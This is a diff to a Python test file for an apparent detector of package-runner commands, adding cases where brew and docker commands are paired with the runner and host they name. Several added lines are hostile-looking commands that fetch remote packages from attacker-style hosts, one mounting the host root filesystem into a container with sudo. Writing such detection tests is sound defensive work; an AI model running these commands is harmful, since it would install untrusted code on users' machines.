@@ -42,6 +42,21 @@ from app.detection.redirects import stranger_proxies
         ("go install update-host.example/fix@latest", "go install", "update-host.example"),
         ("nix run github:evil-dev/fixer", "nix run", "github.com"),
         ("dotnet tool install -g fixer", "dotnet tool install", "api.nuget.org"),
+        # a Homebrew tap or a cask by address, a container image (tech22)
+        ("brew tap evil-dev/tools", "brew tap", "github.com"),
+        ("brew install evil-dev/tools/macfix", "brew install", "github.com"),
+        ("brew install --cask https://cdn.fix.example/c.rb", "brew install", "cdn.fix.example"),
+        (
+            "docker run -d --restart always --net host reg.fix.example/agent",
+            "docker run",
+            "reg.fix.example",
+        ),
+        (
+            "sudo docker run -v /:/host -e A=1 --name x ghcr.io/evil-dev/fix:1",
+            "docker run",
+            "ghcr.io",
+        ),
+        ("podman run --rm fixer-image", "podman run", "docker.io"),
     ],
 )
 def test_package_runners_are_read_with_their_host(text: str, runner: str, host: str) -> None:
@@ -65,6 +80,8 @@ def test_package_runners_are_read_with_their_host(text: str, runner: str, host: 
         "go install ./cmd/...",
         "echo npx fixer",
         "brew install fixer",
+        "brew install --cask firefox",
+        "docker run --rm -it ./local",
         "\n".join(["npx a"] * 6),  # a script, not a line handed over
         "npx " + "a" * 5000,
     ],
